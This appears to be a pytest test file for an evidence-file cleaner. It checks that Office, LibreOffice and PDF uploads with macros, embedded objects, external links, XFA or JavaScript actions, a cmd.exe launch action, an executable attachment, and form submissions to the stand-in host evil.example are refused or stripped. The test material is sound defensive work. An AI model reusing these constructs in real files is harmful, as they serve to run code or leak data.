"""Files of other programs, and what Office and PDF files carry besides text: one sentence, or a clean copy."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from portal import evidence_files
from portal.domain.refusals import Invalid
from portal.evidence_files.sentences import HARMFUL, LOCKED, WRONG_KIND
from tests import files
from tests.files import SECRET

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OPEN_DOCUMENT, OFFICE = "application/vnd.oasis.opendocument", "application/vnd.openxmlformats-officedocument"
ELSEWHERE = "evil.example"
HIDDEN = (ELSEWHERE, SECRET, "app.alert", "JavaScript", "Launch", "EmbeddedFile", "XFA", "SubmitForm", "GoToR")


def open_document(kind: str) -> bytes:
    """A file of LibreOffice with an author and a macro."""
    parts: dict[str, bytes | str] = {"mimetype": f"{OPEN_DOCUMENT}.{kind}", "content.xml": "<office/>"}
    return files.zipped(parts | {"meta.xml": SECRET, "Basic/Standard/Module1.xml": "<script>Sub Main</script>"})


def compound(*streams: str) -> bytes:
    """A compound file as Office wrote it before 2007, with these streams in its directory."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<10I", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    directory = b""
    for name in ("Root Entry", *streams):
        letters = name.encode("utf-16-le")
        directory += (letters.ljust(64, b"\0") + struct.pack("<HBB", len(letters) + 2, 2, 1)).ljust(128, b"\0")
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    return head.ljust(512, b"\xff") + table + directory.ljust(1_024, b"\0")


def package(part: str, type: str, **more: bytes | str) -> bytes:
    """An Office file whose main part has this type."""
    listed = f'<Types xmlns="{TYPES}"><Override PartName="/{part}" ContentType="{type}"/></Types>'
    return files.zipped({"[Content_Types].xml": listed, part: "<x/>", "docProps/core.xml": SECRET, **more})


def related(relation: str, target: str, **more: bytes | str) -> bytes:
    """A Word document with one more relationship, to a part of it or elsewhere."""
    mode = "" if more else ' TargetMode="External"'
    entry = f'<Relationship Id="r1" Type="{RELATION}/{relation}" Target="{target}"{mode}/>'
    parts: dict[str, bytes | str] = {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{entry}'}
    return files.document(**{name: f"{content!s}</Relationships>" for name, content in parts.items()}, **more)


REFUSED = {
    "Writer": (open_document("text"), WRONG_KIND),
    "Impress": (open_document("presentation"), WRONG_KIND),
    "Calc": (open_document("spreadsheet"), WRONG_KIND),
    "PowerPoint": (package("ppt/presentation.xml", f"{OFFICE}.presentationml.presentation.main+xml"), WRONG_KIND),
    "Word 97 with macros": (compound("WordDocument", "Macros", "VBA"), WRONG_KIND),
    "Excel 97": (compound("Workbook", "_VBA_PROJECT_CUR"), WRONG_KIND),
    "PowerPoint 97": (compound("PowerPoint Document"), WRONG_KIND),
    "an Outlook message": (compound("__properties_version1.0"), WRONG_KIND),
    "Word with a password": (compound("EncryptionInfo", "EncryptedPackage"), LOCKED),
    "rich text with an object": (b"{\\rtf1 {\\object\\objocx}}", WRONG_KIND),
    "an archived page": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>", WRONG_KIND),
    "Word with macros": (
        package(
            "word/document.xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            **{"word/vbaProject.bin": compound("VBA")},
        ),
        HARMFUL,
    ),
    "a macro project": (related("vbaProject", "vbaProject.bin", **{"word/vbaProject.bin": compound("VBA")}), HARMFUL),
    "an embedded object": (
        related("oleObject", "embeddings/o.bin", **{"word/embeddings/o.bin": compound("\x01Ole10Native")}),
        HARMFUL,
    ),
    "a font of no declared type": (
        related("font", "fonts/font1.odttf", **{"word/fonts/font1.odttf": b"\x01\x02" * 50}),
        HARMFUL,
    ),
}


@pytest.mark.parametrize(("data", "sentence"), REFUSED.values(), ids=REFUSED.keys())
def test_other_formats_are_refused_with_what_to_do(data: bytes, sentence: str) -> None:
    with pytest.raises(Invalid) as refused:
        evidence_files.clean(data)
    assert refused.value.sentence == sentence


@pytest.mark.parametrize("relation", ["attachedTemplate", "image", "oleObject", "frame", "subDocument", "hyperlink"])
def test_a_document_fetches_nothing_from_elsewhere(relation: str) -> None:
    scheme = "file:////" if relation == "hyperlink" else "http://"
    cleaned = evidence_files.clean(related(relation, f"{scheme}{ELSEWHERE}/share"))
    assert cleaned.clean_type == f"{OFFICE}.wordprocessingml.document"
    with zipfile.ZipFile(BytesIO(cleaned.clean)) as parts:
        content = "".join(name + parts.read(name).decode("latin-1") for name in parts.namelist())
    assert "Our rule" in content
    assert [word for word in HIDDEN if word in content] == []


def test_a_workbook_linked_to_another_is_clean() -> None:
    link = f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{RELATION}/externalLinkPath" '
    link += f'Target="file:///\\\\{ELSEWHERE}\\wages.xlsx" TargetMode="External"/></Relationships>'
    parts = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = link
    cleaned = evidence_files.clean(package("xl/workbook.xml", f"{OFFICE}.spreadsheetml.sheet.main+xml", **parts))
    with zipfile.ZipFile(BytesIO(cleaned.clean)) as zipped:
        content = "".join(zipped.read(name).decode("latin-1") for name in zipped.namelist())
    assert [word for word in HIDDEN if word in content] == []


def changed(change: Callable[[Pdf], None]) -> bytes:
    held = BytesIO()
    with pikepdf.open(BytesIO(files.pdf())) as document:
        change(document)
        document.save(held)
    return held.getvalue()


def _on_the_page(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        place: dict[str, Any] = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])}
        document.pages[0].Annots = Array([Dictionary(**place, A=action)])

    return change


def _xfa(document: Pdf) -> None:
    form = document.make_stream(b"<template><script>app.alert(1)</script></template>")
    document.Root.AcroForm = Dictionary(XFA=Array(["template", form]), Fields=Array([]))


def _attached(document: Pdf) -> None:
    document.attachments["wages.exe"] = b"MZ"


def _opens(document: Pdf) -> None:
    then = Dictionary(S=Name.Launch, F="cmd.exe")
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([]), Next=then)


def _fetches(document: Pdf) -> None:
    elsewhere = Dictionary(F=f"http://{ELSEWHERE}/x.pdf")
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=elsewhere, BBox=Array([0, 0, 1, 1]))
    document.pages[0].Resources.XObject = Dictionary(X=form)


CHANGES = {
    "XFA": _xfa,
    "an attachment": _attached,
    "launching a program": _opens,
    "a picture from elsewhere": _fetches,
    "a script": _on_the_page(Dictionary(S=Name.JavaScript, JS="app.alert(1)")),
    "sending a form": _on_the_page(Dictionary(S=Name.SubmitForm, F=f"http://{ELSEWHERE}/")),
    "another file": _on_the_page(Dictionary(S=Name.GoToR, F=f"\\\\{ELSEWHERE}\\share\\x.pdf")),
    "a link": _on_the_page(Dictionary(S=Name.URI, URI=f"http://{ELSEWHERE}/?who")),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES.keys())
def test_a_pdf_runs_and_fetches_nothing(change: Callable[[Pdf], None]) -> None:
    cleaned = evidence_files.clean(changed(change))
    with pikepdf.open(BytesIO(cleaned.clean)) as document:
        content = "".join(repr(each) for each in document.objects)
        assert "No worker pays" in document.pages[0].Contents.read_bytes().decode()
    assert [word for word in HIDDEN if word in content] == []


def test_a_photograph_of_a_telephone_tells_no_place() -> None:
    """HEIC with coordinates: the copy is a JPEG without them."""
    cleaned = evidence_files.clean(files.photograph("HEIF"))
    assert (cleaned.media_type, cleaned.clean_type) == ("image/heic", "image/jpeg")
    assert b"Exif" not in cleaned.clean and SECRET.encode() not in cleaned.clean
